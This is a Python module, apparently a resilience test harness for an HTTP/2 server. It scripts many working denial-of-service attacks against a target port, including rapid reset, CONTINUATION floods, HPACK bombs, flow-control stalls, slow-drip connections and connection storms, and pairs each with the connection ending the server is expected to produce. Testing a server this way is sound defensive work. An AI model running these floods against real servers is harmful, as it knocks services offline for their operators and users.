"""What is done to HTTP/2, and what the server has to do then. An attack is a function of a target; it
returns the connection it used and the number of frames that it could send.

A verdict names how the connection has to end: the code of GOAWAY, "closed" or "reset" by the server,
or "open" if it has to remain.
"""

import collections
import random
import socket
import threading
import time

import frames as h2
from frames import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING
from frames import PRIORITY, PRIORITY_UPDATE, RESET, SETTINGS, WINDOW, block, frame, get

Attack = collections.namedtuple("Attack", "name run verdicts most also")
# `share`: what has to remain open is attacked with so many times fewer requests.
Target = collections.namedtuple("Target", "port tls large seconds share")
CALM = "GOAWAY ENHANCE_YOUR_CALM"
PROTOCOL = "GOAWAY PROTOCOL_ERROR"
CLOSED = ("closed", "reset", "GOAWAY NO_ERROR")
FLOOD = 20_000  # frames that an attack sends at most
BATCH = 100
ALL = []


def attack(*verdicts, most=FLOOD, also=None):
    """`most`: the number of frames that the server takes at most. `also`: a check of the
    connection, which returns what is wrong."""

    def add(run):
        ALL.append(Attack(run.__name__.replace("_", " "), run, verdicts, most, also))
        return run

    return add


def flood(connection, make, count=FLOOD, batch=BATCH):
    """Sends what `make` makes of a number, until the server has enough."""
    sent = 0
    while sent < count and not connection.over:
        if not connection.sendall(b"".join(make(sent + n) for n in range(batch))):
            break
        sent += batch
        connection.digested()
    connection.read(1, lambda: connection.over)
    return connection, sent


def wide(target):
    """A connection whose windows do not matter."""
    connection = h2.Connection(target.port, target.tls)
    connection.sendall(h2.settings(window=1 << 20) + h2.window(0, 0x7FFF0000 - 65_535))
    return connection


def unit(name, octets, *verdicts, before=b"", most=3000):
    """A flood of equal frames."""

    def run(target):
        connection = h2.Connection(target.port, target.tls)
        connection.sendall(before)
        return flood(connection, lambda _: octets)

    ALL.append(Attack(f"flood of {name}", run, verdicts or (CALM,), most, None))


def streams(name, make, *verdicts, most=400, count=2000, path=None):
    """On many streams in turn, a request for a large file and what makes it useless."""

    def run(target):
        connection = h2.Connection(target.port, target.tls)

        def one(n):
            stream = 2 * n + 1
            return get(stream, path or target.large) + make(stream)

        return flood(connection, one, count, batch=20)

    ALL.append(Attack(name, run, verdicts or (CALM,), most, None))


# --- resets ---

streams("rapid reset", h2.reset)
streams("rapid reset of blocking work", h2.reset, path="/many/")
streams("made you reset: WINDOW_UPDATE of 0", lambda s: h2.window(s, 0))
streams("made you reset: window overflow", lambda s: h2.window(s, 0x7FFFFFFF))
streams("made you reset: DATA after the end", lambda s: frame(DATA, 0, s, b"x"))
streams(
    "made you reset: HEADERS after the end",
    lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block()),
)
streams(
    "made you reset: dependency on itself",
    lambda s: frame(PRIORITY, 0, s, s.to_bytes(4, "big") + b"\x10"),
)
streams("made you reset: PRIORITY of 4 octets", lambda s: frame(PRIORITY, 0, s, bytes(4)))
streams(
    "WINDOW_UPDATE of 3 octets",
    lambda s: frame(WINDOW, 0, s, bytes(3)),
    "GOAWAY FRAME_SIZE_ERROR",
)
streams("RST_STREAM of 3 octets", lambda s: frame(RESET, 0, s, bytes(3)), "GOAWAY FRAME_SIZE_ERROR")


def requests(name, make, *verdicts, most=400, count=2000, also=None, batch=20):
    """Many requests of a kind, each on a stream of its own."""

    def run(target):
        connection = wide(target)
        most = count // target.share if "open" in verdicts else count
        return flood(connection, lambda n: make(2 * n + 1), most, batch)

    ALL.append(Attack(name, run, verdicts or (CALM,), most, also))


requests(
    "made you reset: wrong length of content",
    lambda s: (
        frame(HEADERS, END_HEADERS, s, block("/huge.bin", ("content-length", "5")))
        + frame(DATA, END_STREAM, s, b"x")
    ),
)
requests("made you reset: malformed requests", lambda s: get(s, "/", ("Upper", "x")))
requests("made you reset: no path", lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, b"\x82"))


@attack(CALM, most=500)
def more_streams_than_allowed(target):
    connection = h2.Connection(target.port, target.tls)
    connection.sendall(h2.settings(window=0))
    return flood(connection, lambda n: get(2 * n + 1, target.large), 2000, batch=20)


# --- frames without a use ---

unit("PING", frame(PING, 0, 0, bytes(8)))
unit("PING acknowledgments", frame(PING, ACK, 0, bytes(8)))
unit("SETTINGS", h2.settings())
unit("SETTINGS that change the window", h2.settings(window=0) + h2.settings(window=65535))
unit("SETTINGS acknowledgments", frame(SETTINGS, ACK))
unit("PRIORITY", frame(PRIORITY, 0, 3, bytes(4) + b"\x10"))
unit("PRIORITY_UPDATE", frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\x05u=1"))
unit("GOAWAY", frame(h2.GOAWAY, 0, 0, bytes(8)))
unit("unknown frames", frame(0xFA, 0, 0, b"x"))
unit("WINDOW_UPDATE", h2.window(0, 1))
unit("WINDOW_UPDATE of ended streams", h2.window(1, 65535), before=get(1))
unit("empty DATA", frame(DATA, 0, 1), before=get(1, end=False))
unit("DATA with padding only", frame(DATA, PADDED, 1, b"\x03\0\0\0"), before=get(1, end=False))
unit(
    "DATA on a stream that was reset",
    frame(DATA, 0, 1, b"x"),
    before=get(1, end=False) + h2.window(1, 0),
)
unit(
    "HEADERS on a stream that was reset",
    frame(HEADERS, END_HEADERS | END_STREAM, 1, block()),
    before=get(1, end=False) + h2.window(1, 0),
)
unit("RST_STREAM of ended streams", h2.reset(1), before=get(1))
unit("RST_STREAM of idle streams", h2.reset(1), PROTOCOL)
unit("PUSH_PROMISE", frame(h2.PUSH, END_HEADERS, 1, bytes(4)), PROTOCOL)

# --- field blocks ---


def continuations(name, part, *verdicts, most=400):
    def run(target):
        connection = h2.Connection(target.port, target.tls)
        connection.sendall(frame(HEADERS, END_STREAM, 1, block()))
        return flood(connection, lambda _: frame(CONTINUATION, 0, 1, part), batch=5)

    ALL.append(Attack(name, run, verdicts or (CALM,), most, None))


continuations("CONTINUATION without end", h2.field("x", "y" * 100), most=60)
continuations("CONTINUATION without end, 16 KiB each", h2.field("x", "y" * 16_000), most=60)
continuations("empty CONTINUATION without end", b"", most=60)


@attack(PROTOCOL)
def interrupted_field_block(target):
    connection = h2.Connection(target.port, target.tls)
    connection.sendall(frame(HEADERS, END_STREAM, 1, block()) + frame(PING, 0, 0, bytes(8)))
    connection.wait(3)
    return connection, 2


@attack(CALM, "open", most=FLOOD)
def many_blocks_of_empty_continuations(target):
    connection = h2.Connection(target.port, target.tls)

    def one(n):
        head = frame(HEADERS, END_STREAM, 2 * n + 1, block())
        rest = frame(CONTINUATION, 0, 2 * n + 1) * 5
        return head + rest + frame(CONTINUATION, END_HEADERS, 2 * n + 1)

    return flood(connection, one, 2000, batch=50)


def refused(connection):
    """No request may be served whose fields are too large."""
    return f"{connection.statuses[200]} were served" if connection.statuses[200] else None


def bomb(stream):
    first = h2.field("x", "y" * 3900, indexing=True) if stream == 1 else b""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block() + first + b"\xbe" * 12_000)


requests("HPACK bomb", bomb, CALM, most=60, also=refused)
requests(
    "HPACK bomb, just large enough for 431",
    lambda s: frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        s,
        block() + (h2.field("x", "y" * 3900, indexing=True) if s == 1 else b"") + b"\xbe" * 20,
    ),
    CALM,
    "open",
    most=FLOOD,
    also=refused,
)


def served(connection):
    wanted = len(connection.ended)
    return None if connection.statuses[200] == wanted > 0 else "not every request was served"


requests(
    "HPACK table thrash",
    lambda s: frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        s,
        b"\x20\x3f\xe1\x1f"  # the size of the table: 0, then 4096
        + block()
        + b"".join(h2.field(f"{n}", f"{s}", indexing=True) for n in range(80)),
    ),
    "open",
    most=FLOOD,
    also=served,
)
requests(
    "table larger than allowed",
    lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, b"\x3f\xe1\x7f" + block()),
    "GOAWAY COMPRESSION_ERROR",
)
requests(
    "overlong integers",
    lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, b"\xff" + b"\x80" * 30),
    "GOAWAY COMPRESSION_ERROR",
)
requests(
    "thousands of empty names",
    lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block() + b"\x00\x00\x00" * 4000),
    also=refused,
)
requests(
    "thousands of cookies",
    lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, block() + b"\x0f\x11\x01a" * 4000),
    CALM,
    "open",
    most=FLOOD,
    also=refused,
)
requests("requests as fast as possible", get, "open", most=FLOOD, count=20_000, also=served, batch=50)

requests(
    "reset after each small response",
    lambda s: get(s) + h2.reset(s),
    CALM,
    "open",
    most=FLOOD,
)

# --- flow control ---


def cancelled(connection):
    count = connection.resets["CANCEL"]
    return None if count == 100 or connection.over else f"{count} of 100 streams cancelled"


def hundred(target, **values):
    connection = h2.Connection(target.port, target.tls)
    connection.sendall(h2.settings(**values))
    connection.sendall(b"".join(get(2 * n + 1, target.large) for n in range(100)))
    return connection


@attack("open", *CLOSED, also=cancelled)
def window_of_0_for_ever(target):
    connection = hundred(target, window=0)
    connection.read(target.seconds, lambda: connection.over or len(connection.ended) == 100)
    return connection, 100


@attack("open", CALM, *CLOSED, also=cancelled)
def windows_of_1_dripped(target):
    connection = hundred(target, window=1)
    end, n = time.monotonic() + target.seconds, 0
    while time.monotonic() < end and not connection.over and len(connection.ended) < 100:
        connection.sendall(h2.window(2 * (n % 100) + 1, 1))
        connection.read(0.05)
        n += 1
    return connection, n


@attack(*CLOSED)
def window_of_the_connection_never_opened(target):
    connection = hundred(target, window=0x7FFFFFFF)
    connection.wait(target.seconds)
    return connection, 100


@attack(*CLOSED)
def client_that_never_reads(target):
    connection = h2.Connection(target.port, target.tls, receive=4096)
    connection.sendall(h2.settings(window=0x7FFFFFFF) + h2.window(0, 0x7FFF0000 - 65535))
    connection.sendall(b"".join(get(2 * n + 1, target.large) for n in range(100)))
    port, end = connection.socket.getsockname()[1], time.monotonic() + target.seconds
    while h2.held(target.port, {port}) and time.monotonic() < end:
        time.sleep(0.2)
    connection.closed = "open" if h2.held(target.port, {port}) else "closed"
    return connection, 100


requests(
    "made you reset: content beyond the window",
    lambda s: (
        frame(HEADERS, END_HEADERS, s, block("/huge.bin")) + frame(DATA, 0, s, bytes(16_384)) * 5
    ),
    count=1000,
    batch=5,
)


@attack("GOAWAY FLOW_CONTROL_ERROR")
def window_of_the_connection_overflows(target):
    return flood(h2.Connection(target.port, target.tls), lambda _: h2.window(0, 0x7FFFFFFF), 200)


# --- time ---


def drip(connection, octets, seconds, pause=0.3):
    """Sends octet by octet."""
    end = time.monotonic() + seconds
    for n in range(len(octets)):
        if connection.over or time.monotonic() > end:
            break
        connection.sendall(octets[n : n + 1])
        connection.read(pause, lambda: connection.over)
    return connection, 1


@attack(*CLOSED)
def slow_preface(target):
    connection = h2.Connection(target.port, target.tls, begin=b"")
    return drip(connection, h2.PREFACE + h2.settings() * 9, target.seconds)


@attack(*CLOSED, CALM)
def slow_settings(target):
    connection = h2.Connection(target.port, target.tls, begin=h2.PREFACE)
    return drip(connection, h2.settings(window=1) * 9, target.seconds)


@attack(CALM)
def slow_headers(target):
    connection = h2.Connection(target.port, target.tls)
    return drip(connection, get(1, "/" + "a" * 100), target.seconds)


@attack(CALM)
def slow_continuation(target):
    connection = h2.Connection(target.port, target.tls)
    connection.sendall(frame(HEADERS, END_STREAM, 1, block()))
    end, n = time.monotonic() + target.seconds, 0
    while time.monotonic() < end and not connection.over:
        connection.sendall(frame(CONTINUATION, 0, 1, h2.field("a", "b")))
        connection.read(0.7, lambda: connection.over)
        n += 1
    return connection, n


@attack(*CLOSED)
def nothing_after_the_preface(target):
    connection = h2.Connection(target.port, target.tls)
    connection.wait(target.seconds)
    return connection, 0


@attack(*CLOSED)
def pings_keep_no_connection(target):
    connection = h2.Connection(target.port, target.tls)
    end, n = time.monotonic() + target.seconds, 0
    while time.monotonic() < end and not connection.over:
        connection.sendall(frame(PING, 0, 0, bytes(8)))
        connection.read(0.2, lambda: connection.over)
        n += 1
    return connection, n


@attack("open", *CLOSED)
def uploads_that_do_not_continue(target):
    connection = h2.Connection(target.port, target.tls)
    connection.sendall(b"".join(get(2 * n + 1, "/", end=False) for n in range(100)))
    connection.read(target.seconds, lambda: connection.over or len(connection.ended) == 100)
    return connection, 100


# --- other ends ---


@attack(PROTOCOL, "GOAWAY FRAME_SIZE_ERROR")
def garbage_after_the_preface(target):
    connection = h2.Connection(target.port, target.tls)
    rng = random.Random(13)
    return flood(connection, lambda _: b"\xff" + rng.randbytes(99), 200, batch=1)


@attack(PROTOCOL, "closed", "reset")
def wrong_preface(target):
    begin = h2.PREFACE[:-8] + b"XX\r\n\r\n\r\n"
    connection = h2.Connection(target.port, target.tls, begin=begin)
    connection.wait(target.seconds)
    return connection, 1


@attack(PROTOCOL)
def no_settings(target):
    connection = h2.Connection(target.port, target.tls, begin=h2.PREFACE + get(1))
    connection.wait(3)
    return connection, 1


@attack("closed", "GOAWAY NO_ERROR", also=served)
def half_closed_after_requests(target):
    connection = wide(target)
    connection.sendall(b"".join(get(2 * n + 1) for n in range(50)))
    connection.read(0.05)
    connection.socket.shutdown(socket.SHUT_WR)
    connection.read(target.seconds)
    return connection, 50


@attack("gone")
def connections_reset_within_responses(target):
    for _ in range(50):
        connection = hundred(target, window=100_000)
        connection.read(0.005)
        connection.reset()
    connection.closed, connection.goaway = "gone", None
    return connection, 5000


@attack("gone")
def hundreds_of_connections(target):
    def one():
        for _ in range(10):
            with h2.Connection(target.port, target.tls) as connection:
                connection.sendall(get(1))
                connection.read(1, lambda: connection.ended)

    threads = [threading.Thread(target=one) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    connection = h2.Connection(target.port, target.tls)
    connection.closed = "gone"
    return connection, 200
